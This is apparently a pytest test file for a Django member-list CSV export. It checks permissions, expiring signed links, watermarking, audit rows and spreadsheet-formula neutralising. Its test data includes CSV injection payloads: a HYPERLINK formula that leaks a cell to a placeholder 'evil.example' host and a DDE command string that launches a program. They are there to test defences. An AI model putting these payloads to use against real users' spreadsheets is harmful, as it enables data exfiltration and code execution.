"""Member-list CSV exports (issue 5): who may export, the signed link that expires and is bound
to its maker, the watermark, formula neutralising, the audit rows; and a Data Manager's access
starting only once the data protection agreement is accepted."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.core import signing
from django.test import Client
from django.urls import reverse

from grassroots.audit.models import AuditEntry
from grassroots.organisation.models import Role, RoleAssignment
from grassroots.organisation.permissions import Capability, scopes_for
from grassroots.organisation.services.officers import accept_agreement
from grassroots.people import exports
from grassroots.people.queries import MemberFilters
from tests.factories import MemberFactory, MemberWithLoginFactory, RoleFactory
from tests.web.roles import Movement, build_movement, give_authenticator_app

pytestmark = pytest.mark.django_db


@pytest.fixture
def movement() -> Movement:
    return build_movement()


def client_of(member) -> Client:
    client = Client()
    client.force_login(member.user)
    return client


def export(client: Client, purpose: str = "phoning new joiners", **filters: str):
    return client.post(reverse("member_export"), {"purpose": purpose, **filters})


def link_in(response) -> str:
    match = re.search(r'href="(/members/export/[^"]+/)"', response.content.decode())
    assert match, response.content.decode()
    return match.group(1)


def csv_of(response) -> str:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def test_only_data_managers_and_national_office_may_export(movement: Movement):
    assert exports.may_export(movement.data_manager_a.user)
    assert exports.may_export(movement.national.user)
    for person in (
        movement.secretary_a,
        movement.coordinator,
        movement.regional,
        movement.auditor,
        movement.member,
    ):
        assert not exports.may_export(person.user)
        assert export(client_of(person)).status_code == 404
    chair = MemberWithLoginFactory(home_group=movement.group_a)
    RoleFactory(member=chair, role=Role.CHAIR, group=movement.group_a)
    give_authenticator_app(chair.user)
    assert not exports.may_export(chair.user)


def test_the_export_button_is_on_the_list_only_for_exporters(movement: Movement):
    page = client_of(movement.data_manager_a).get(reverse("member_list"), {"show": "new"})
    assert "Export these members" in page.content.decode()
    assert 'name="show" value="new"' in page.content.decode()
    page = client_of(movement.coordinator).get(reverse("member_list"))
    assert "Export these members" not in page.content.decode()


def test_data_manager_exports_own_group_only_watermarked_and_audited(movement: Movement):
    client = client_of(movement.data_manager_a)
    ready = export(client, purpose="calling lapsed members")
    assert ready.status_code == 200
    body = csv_of(client.get(link_in(ready)))
    lines = body.splitlines()
    assert lines[0].startswith(f"# Exported by {movement.data_manager_a.user.email} at ")
    assert (
        "UTC for calling lapsed members; personal data - handle under the data protection"
        in (lines[0])
    )
    assert lines[1].startswith("membership_number,first_name,last_name,email")
    assert movement.in_group_a.membership_number in body
    assert movement.in_sibling.membership_number not in body
    assert movement.in_group_b.membership_number not in body
    entry = AuditEntry.objects.get(action="export_members")
    assert entry.purpose == "calling lapsed members"
    assert entry.detail["rows"] == len(lines) - 2
    assert AuditEntry.objects.filter(action="download_member_export").count() == 1


def test_the_export_keeps_the_list_filters(movement: Movement):
    client = client_of(movement.national)
    body = csv_of(client.get(link_in(export(client, q="Bellamy"))))
    assert movement.in_group_b.membership_number in body
    assert movement.in_group_a.membership_number not in body


def test_a_group_outside_the_scope_cannot_be_exported(movement: Movement):
    client = client_of(movement.data_manager_a)
    assert export(client, group=str(movement.group_b.pk)).status_code == 400
    token = exports.create_export(
        actor=movement.data_manager_a.user,
        filters=MemberFilters(group_id=movement.group_b.pk),
        purpose="probing",
    )
    body = csv_of(client.get(reverse("member_export_download", kwargs={"token": token})))
    assert movement.in_group_b.membership_number not in body
    assert len(body.splitlines()) == 2  # the watermark and the header only


def test_a_purpose_is_required(movement: Movement):
    assert export(client_of(movement.data_manager_a), purpose="").status_code == 400
    assert not AuditEntry.objects.filter(action="export_members").exists()


def test_formula_cells_are_neutralised(movement: Movement):
    MemberFactory(
        home_group=movement.group_a,
        first_name='=HYPERLINK("http://evil")',
        last_name="@SUM(A1)",
        phone="+44 7700 900123",
        postcode="-1+1",
    )
    MemberFactory(home_group=movement.group_a, first_name="\tTab", last_name="\rReturn")
    client = client_of(movement.data_manager_a)
    body = csv_of(client.get(link_in(export(client))))
    assert "'=HYPERLINK" in body
    assert "'@SUM(A1)" in body
    assert "'+44 7700 900123" in body
    assert "'-1+1" in body
    assert "'\tTab" in body
    assert "'\rReturn" in body
    for cell in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralise(cell + "x") == "'" + cell + "x"
    assert exports.neutralise("Plain") == "Plain"


def test_a_link_expires_after_fifteen_minutes(movement: Movement, monkeypatch):
    client = client_of(movement.data_manager_a)
    url = link_in(export(client))
    later = datetime.datetime.now().timestamp() + 16 * 60
    monkeypatch.setattr(signing.time, "time", lambda: later)
    response = client.get(url)
    assert response.status_code == 410
    assert "expired" in response.content.decode()


def test_a_forged_or_altered_link_is_refused(movement: Movement):
    client = client_of(movement.data_manager_a)
    url = link_in(export(client))
    changed = "y" if url[-3] == "x" else "x"  # a character that differs from the one replaced
    assert client.get(url[:-3] + changed + url[-2:]).status_code == 400
    forged = signing.TimestampSigner(key="not-our-key", salt=exports.SALT).sign_object(
        {"u": movement.data_manager_a.user.pk, "f": {}, "p": "x"}
    )
    assert client.get(reverse("member_export_download", kwargs={"token": forged})).status_code == (
        400
    )


def test_a_link_works_only_for_the_person_who_made_it(movement: Movement):
    url = link_in(export(client_of(movement.data_manager_a)))
    assert client_of(movement.national).get(url).status_code == 400


def test_a_link_outlives_neither_the_role_nor_the_agreement(movement: Movement):
    client = client_of(movement.data_manager_a)
    url = link_in(export(client))
    role = RoleAssignment.objects.get(member=movement.data_manager_a)
    role.agreement_acceptances.all().delete()
    assert client.get(url).status_code == 404


# --- a Data Manager's access starts with the agreement ---


def unaccepted_data_manager(movement: Movement):
    person = MemberWithLoginFactory(home_group=movement.group_a)
    role = RoleFactory(
        member=person, role=Role.DATA_MANAGER, group=movement.group_a, accepted_agreement=False
    )
    give_authenticator_app(person.user)
    return person, role


def test_data_manager_without_the_agreement_has_no_member_access(movement: Movement):
    person, _ = unaccepted_data_manager(movement)
    for capability in (
        Capability.VIEW_MEMBERS,
        Capability.EDIT_MEMBERS,
        Capability.EXPORT_MEMBERS,
    ):
        assert scopes_for(person.user, capability).is_empty
    assert scopes_for(person.user, Capability.APPEAL_RECOGNITION).covers_group(movement.group_a.pk)
    client = client_of(person)
    assert client.get(reverse("member_list")).status_code == 404
    number = movement.in_group_a.membership_number
    assert client.get(reverse("member_detail", kwargs={"number": number})).status_code == 404
    assert export(client).status_code == 404


def test_dashboard_prompts_the_data_manager_to_accept_then_access_starts(movement: Movement):
    person, role = unaccepted_data_manager(movement)
    client = client_of(person)
    home = client.get(reverse("home")).content.decode()
    assert "accept the data protection agreement" in home
    assert reverse("data_protection_agreement") in home
    accept_agreement(actor=person.user, assignment=role)
    assert (
        "accept the data protection agreement" not in client.get(reverse("home")).content.decode()
    )
    assert client.get(reverse("member_list")).status_code == 200


def test_acceptance_is_read_in_the_one_roles_query(movement: Movement, django_assert_num_queries):
    user = type(movement.data_manager_a.user).objects.get(pk=movement.data_manager_a.user.pk)
    with django_assert_num_queries(1):
        for capability in (Capability.VIEW_MEMBERS, Capability.EXPORT_MEMBERS):
            assert scopes_for(user, capability).covers_group(movement.group_a.pk)


@pytest.mark.parametrize(
    "purpose",
    [
        '=HYPERLINK("http://evil.example/?"&A3,"Click to verify")',
        "phoning, =1+1",
        "calling\",@SUM(1+1)*cmd|' /C calc'!A0",
        "+thing;-1",
    ],
)
def test_the_watermark_is_one_cell_that_no_spreadsheet_runs(movement: Movement, purpose: str):
    """Issue 20, item 7: the purpose was written into the watermark line unquoted, so a comma in
    it started a new cell and a purpose such as `x,=HYPERLINK(...)` became a formula."""
    client = client_of(movement.data_manager_a)
    body = csv_of(client.get(link_in(export(client, purpose=purpose))))
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows[0]) == 1
    assert rows[0][0].startswith(f"# Exported by {movement.data_manager_a.user.email} at ")
    assert f"for {exports.clean_purpose(purpose)}; personal data" in rows[0][0]
    assert rows[1][0] == "membership_number"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row, cell)
